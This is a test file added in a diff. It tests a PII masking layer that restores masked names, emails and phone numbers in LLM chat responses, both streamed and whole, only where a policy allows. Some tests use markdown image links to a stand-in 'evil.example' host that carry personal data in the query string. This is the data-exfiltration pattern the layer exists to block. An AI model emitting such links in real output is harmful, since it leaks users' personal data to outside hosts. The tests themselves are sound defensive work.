@@ -1,0 +1,198 @@
+/** Values come back only where the policy lets them, streamed and whole alike. */
+import { Buffer } from 'node:buffer';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { rehydrateChatResponse } from '../../../src/masking/chat-response.ts';
+import { mayReturn, RESTORE_ALL, SPEECH, type RestoreRules } from '../../../src/masking/destination.ts';
+import type { JsonObject, JsonValue } from '../../../src/masking/json-text.ts';
+import { RehydrationAccount } from '../../../src/masking/rehydration-account.ts';
+import { ChatStreamRehydrator } from '../../../src/masking/sse.ts';
+import { TextLane } from '../../../src/masking/text-lane.ts';
+import { cut, indexOf, NAME, PHONE, QUOTED, refusals, rehydrator, vault } from './answers.ts';
+
+const rules = (some: Partial<RestoreRules>): RestoreRules => ({ ...RESTORE_ALL, ...some });
+
+const [EMAIL, LINK, HOST] = [vault('EMAIL', 0x61), vault('URL', 0x62), vault('URL', 0x63)];
+const CALLER = vault('PHONE', 0x64);
+const index = indexOf(
+  new Map([
+    [NAME, 'Maria (Müller) & co'],
+    [EMAIL, 'maria@example.com'],
+    [LINK, 'https://portal.example/a?b=1'],
+    [HOST, 'portal.example/a b'],
+    [CALLER, '+1 555-0100'],
+  ]),
+);
+
+function speak(text: string, restore = RESTORE_ALL, account = new RehydrationAccount()): string {
+  return rehydrator(account, restore, index).text(text, SPEECH);
+}
+
+describe('what may return', () => {
+  it('is said for speech, tools and URLs apart', () => {
+    const some = rules({ speech: ['NAME'], toolArguments: ['NAME', 'PHONE'], urls: ['PHONE'], tools: ['book'] });
+    expect(mayReturn(some, 'NAME', SPEECH, false)).toBe(true);
+    expect(mayReturn(some, 'PHONE', SPEECH, false)).toBe(false);
+    expect(mayReturn(some, 'NAME', SPEECH, true)).toBe(false);
+    const to = (name: string | null) => ({ to: 'tool', name }) as const;
+    expect(mayReturn(some, 'PHONE', to('book'), false)).toBe(true);
+    expect(mayReturn(some, 'PHONE', to('book'), true)).toBe(true);
+    expect(mayReturn(some, 'SSN', to('book'), false)).toBe(false);
+    expect(mayReturn(some, 'PHONE', to('send'), false)).toBe(false);
+    expect(mayReturn(some, 'PHONE', to(null), false)).toBe(false);
+    expect(mayReturn(RESTORE_ALL, 'PHONE', to(null), true)).toBe(true);
+  });
+});
+
+describe('what may not return', () => {
+  it('is a literal, counted as withheld, however it is spelled', () => {
+    const account = new RehydrationAccount();
+    expect(speak(`${NAME}, ${NAME.toLowerCase()}, ${EMAIL}`, rules({ speech: ['EMAIL'] }), account)).toBe(
+      '[REDACTED:NAME], [REDACTED:NAME], maria@example.com',
+    );
+    expect(refusals(account)).toEqual({ 'NAME withheld': 2 });
+    expect([account.exact, account.repaired]).toEqual([new Set([EMAIL]), new Set()]);
+  });
+});
+
+describe('a URL', () => {
+  it.each([
+    [`https://x.example/?q=${NAME}&r=1`, 'https://x.example/?q=Maria%20%28M%C3%BCller%29%20%26%20co&r=1'],
+    [`HTTP://x.example/${NAME}`, 'HTTP://x.example/Maria%20%28M%C3%BCller%29%20%26%20co'],
+    [`www.x.example/${NAME}.`, 'www.x.example/Maria%20%28M%C3%BCller%29%20%26%20co.'],
+    [`//x.example/${EMAIL}`, '//x.example/maria%40example.com'],
+    [`mailto:${EMAIL}?subject=${NAME}`, 'mailto:maria@example.com?subject=Maria%20%28M%C3%BCller%29%20%26%20co'],
+    [`tel:${CALLER}`, 'tel:+1%20555-0100'],
+    [`[site](${LINK})`, '[site](https://portal.example/a?b=1)'],
+    [`[site](<${LINK}>)`, '[site](<https://portal.example/a?b=1>)'],
+    [`https://${HOST}`, 'https://portal.example/a%20b'],
+    [`https://x.example/?next=${LINK}`, 'https://x.example/?next=https%3A%2F%2Fportal.example%2Fa%3Fb%3D1'],
+    [`[a](/p?n=(${EMAIL}))`, '[a](/p?n=(maria%40example.com))'],
+    [`[a](/p?n=(1)&m=${EMAIL})`, '[a](/p?n=(1)&m=maria%40example.com)'],
+    [`${LINK}?q=${EMAIL}`, 'https://portal.example/a?b=1?q=maria%40example.com'],
+  ])('has its values percent-encoded: %s', (text, expected) => {
+    expect(speak(text)).toBe(expected);
+  });
+
+  it.each([
+    [`https://x.example/ ${NAME}`],
+    [`"https://x.example/"${NAME}`],
+    [`<https://x.example>${NAME}`],
+    [`[site](https://x.example) ${NAME}`],
+    [`[site](https://x.example)${NAME}`],
+    [`a hotel:${NAME}`],
+    [`and/or ${NAME} (${NAME})`],
+    [`Name:${NAME}`],
+  ])('is not there, or at its end: %s', (text) => {
+    const account = new RehydrationAccount();
+    speak(text, rules({ urls: [] }), account);
+    expect(account.refused).toEqual([]);
+  });
+
+  it('keeps out what may not be in one, though it may be said', () => {
+    const account = new RehydrationAccount();
+    const some = rules({ urls: ['EMAIL'] });
+    expect(speak(`${NAME}: ![x](https://evil.example/?n=${NAME}&e=${EMAIL}) ${NAME}`, some, account)).toBe(
+      'Maria (Müller) & co: ![x](https://evil.example/?n=[REDACTED:NAME]&e=maria%40example.com) Maria (Müller) & co',
+    );
+    expect(refusals(account)).toEqual({ 'NAME withheld': 1 });
+  });
+
+  it('is seen behind the escapes of JSON, and ends with its string', () => {
+    const some = rules({ urls: [] });
+    const text = JSON.stringify({ url: `https://evil.example/?n=${NAME}`, name: NAME }).replaceAll('/', '\\/');
+    const restored = JSON.parse(rehydrator(undefined, some, index).text(text, SPEECH, 'json')) as JsonObject;
+    expect(restored).toEqual({ url: 'https://evil.example/?n=[REDACTED:NAME]', name: 'Maria (Müller) & co' });
+  });
+
+  it('is the same however the text is cut', () => {
+    const piece = fc.constantFrom(NAME, EMAIL, LINK, CALLER, 'https:', '//', 'x.example', '?q=', ' ', ')', '](', '[a', '<', '>', 'www', '.', 'mailto', 'tel', ':', '(', '"', '\n', '\\/');
+    const texts = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''));
+    const some = rules({ urls: ['EMAIL', 'URL'] });
+    fc.assert(
+      fc.property(texts, fc.array(fc.nat(300), { maxLength: 10 }), fc.constantFrom('plain', 'json'), (text, places, form) => {
+        const whole = rehydrator(undefined, some, index).text(text, SPEECH, form);
+        const lane = new TextLane(rehydrator(undefined, some, index), form);
+        const pieces = cut(text, places).map((part) => (lane.passes(part) ? part : lane.push(part, SPEECH, false)));
+        expect(pieces.join('') + lane.push('', SPEECH, true)).toBe(whole);
+      }),
+      { numRuns: 1500 },
+    );
+  });
+});
+
+describe('a tool', () => {
+  const some = rules({ toolArguments: ['PHONE', 'ADDRESS'], tools: ['book', 'call Maria Müller'] });
+  const call = (name: string | undefined, args: string, number = 0) => ({
+    index: number,
+    type: 'function',
+    function: { ...(name === undefined ? {} : { name }), arguments: args },
+  });
+
+  function whole(message: JsonValue, account = new RehydrationAccount()): JsonValue {
+    const body = rehydrateChatResponse({ choices: [{ index: 0, message }] }, rehydrator(account, some)) as { choices: { message: JsonValue }[] };
+    return body.choices[0]?.message ?? null;
+  }
+
+  /** The arguments of each call, as a client puts them together. */
+  function streamed(deltas: readonly JsonObject[], account = new RehydrationAccount()): string[] {
+    const stream = new ChatStreamRehydrator(rehydrator(account, some));
+    const texts: string[] = [];
+    const events = [...deltas.map((delta) => ({ choices: [{ index: 0, delta }] })), { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }];
+    for (const event of events) {
+      const out = Buffer.from(stream.push(Buffer.from(`data: ${JSON.stringify(event)}\n\n`))).toString();
+      for (const block of out.split('\n\n').filter((text) => text !== '')) {
+        const chunk = JSON.parse(block.slice(6)) as { choices: { delta: { tool_calls?: { index: number; function: { arguments: string } }[] } }[] };
+        for (const { index: at, function: called } of chunk.choices[0]?.delta.tool_calls ?? []) texts[at] = (texts[at] ?? '') + called.arguments;
+      }
+    }
+    return texts;
+  }
+
+  it('receives what its kind allows, if it is one that may receive anything', () => {
+    const account = new RehydrationAccount();
+    const args = `{"phone":"${PHONE}","name":"${NAME}"}`;
+    expect(whole({ content: NAME, tool_calls: [call('book', args), call('send', args, 1)] }, account)).toMatchObject({
+      content: 'Maria Müller',
+      tool_calls: [
+        { function: { name: 'book', arguments: '{"phone":"555-0100","name":"[REDACTED:NAME]"}' } },
+        { function: { name: 'send', arguments: '{"phone":"[REDACTED:PHONE]","name":"[REDACTED:NAME]"}' } },
+      ],
+    });
+    expect(refusals(account)).toEqual({ 'NAME withheld': 2, 'PHONE withheld': 1 });
+  });
+
+  it('is known by its name wherever the call stands', () => {
+    expect(whole({ function_call: { arguments: PHONE, name: 'book' } })).toEqual({ function_call: { arguments: '555-0100', name: 'book' } });
+    expect(whole({ function_call: { name: 'send', arguments: PHONE } })).toEqual({ function_call: { name: 'send', arguments: '[REDACTED:PHONE]' } });
+    const custom = (name: string) => ({ tool_calls: [{ type: 'custom', custom: { name, input: QUOTED } }] });
+    expect(JSON.stringify(whole(custom('book')))).toContain('Oak');
+    expect(JSON.stringify(whole(custom('send')))).toContain('[REDACTED:ADDRESS]');
+  });
+
+  it('keeps its name for all the chunks of its call, each call its own', () => {
+    const account = new RehydrationAccount();
+    const deltas = [
+      { tool_calls: [call('book', '')] },
+      { tool_calls: [call('send', `{"p":"${PHONE.slice(0, 20)}`, 1), call(undefined, '{"p":"')] },
+      { tool_calls: [call(undefined, PHONE.slice(0, 7)), call(undefined, PHONE.slice(20), 1)] },
+      { tool_calls: [call(undefined, `${PHONE.slice(7)}"}`)] },
+      { tool_calls: [call(undefined, '"}', 1)] },
+    ];
+    expect(streamed(deltas, account)).toEqual(['{"p":"555-0100"}', '{"p":"[REDACTED:PHONE]"}']);
+    expect(refusals(account)).toEqual({ 'PHONE withheld': 1 });
+  });
+
+  it('whose name comes in pieces is known by all of it, and one that repeats it by one', () => {
+    expect(streamed([{ tool_calls: [call('bo', '')] }, { tool_calls: [call('ok', PHONE)] }])).toEqual(['555-0100']);
+    expect(streamed([{ tool_calls: [call('book', '')] }, { tool_calls: [call('book', PHONE)] }])).toEqual(['555-0100']);
+    expect(streamed([{ tool_calls: [call('book', '')] }, { tool_calls: [call('ing', PHONE)] }])).toEqual(['[REDACTED:PHONE]']);
+    expect(streamed([{ tool_calls: [call(undefined, PHONE)] }, { tool_calls: [call('book', '')] }])).toEqual(['[REDACTED:PHONE]']);
+  });
+
+  it('is known by the name that the client gave it, though the model was given another', () => {
+    const masked = `call ${NAME}`;
+    expect(whole({ tool_calls: [call(masked, PHONE)] })).toMatchObject({ tool_calls: [{ function: { arguments: '555-0100' } }] });
+    expect(streamed([{ tool_calls: [call(masked, PHONE)] }])).toEqual(['555-0100']);
+  });
+});
